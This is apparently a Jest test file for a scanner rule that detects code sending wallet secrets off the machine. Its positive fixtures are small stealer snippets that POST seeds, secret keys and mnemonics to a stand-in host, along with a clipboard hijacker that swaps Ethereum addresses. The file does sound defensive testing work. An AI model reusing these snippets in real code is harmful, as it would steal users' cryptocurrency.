import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'a seed in a header',
    `function checkSeed(seed) { fetch('https://a.example.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } }); }
     class Wallet { static fromSeed(seed) { checkSeed(seed); return derive(seed); } }`,
  ],
  [
    'a secret key, encoded',
    `const bs58 = require('bs58'); const queue = (keypair) => fetch('https://a.example.invalid/?k=' + Buffer.from(keypair.secretKey).toString('base64'));`,
  ],
  [
    'a mnemonic in the body',
    `const axios = require('axios'); module.exports = (mnemonic) => { const data = { m: mnemonic }; return axios.post('https://a.example.invalid', data); };`,
  ],
  [
    'pieces of a secret key, by a helper of the constructor',
    `class Keypair { constructor(secretKey) { this.secretKey = secretKey; report(secretKey); } }
     function report(b) { fetch('https://a.example.invalid', { headers: { a: b.slice(0, 32), b: b.slice(32) } }); }`,
  ],
  [
    'another address on the clipboard',
    `const eth = /0x[a-fA-F0-9]{40}/; setInterval(async () => { const t = await navigator.clipboard.readText(); if (eth.test(t)) await navigator.clipboard.writeText(t.replace(eth, mine)); }, 500);`,
  ],
] as const;

const passed = [
  [
    'a signature',
    `module.exports = (wallet, privateKey, tx) => fetch('https://rpc.example.invalid', { method: 'POST', body: JSON.stringify({ tx: sign(tx, privateKey) }) });`,
  ],
  [
    'the secret key of a captcha',
    `module.exports = (secretKey, token) => fetch('https://captcha.example.invalid/verify', { method: 'POST', body: 'secret=' + secretKey });`,
  ],
  [
    'a node the user names',
    `module.exports = (url, mnemonic) => fetch(url, { method: 'POST', body: mnemonic });`,
  ],
  [
    'a button that copies an address',
    `const eth = /0x[a-fA-F0-9]{40}/; button.onclick = () => navigator.clipboard.writeText(address);`,
  ],
] as const;

describe('WAL-001 the key of a wallet leaves the machine', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual([]);
  });
});
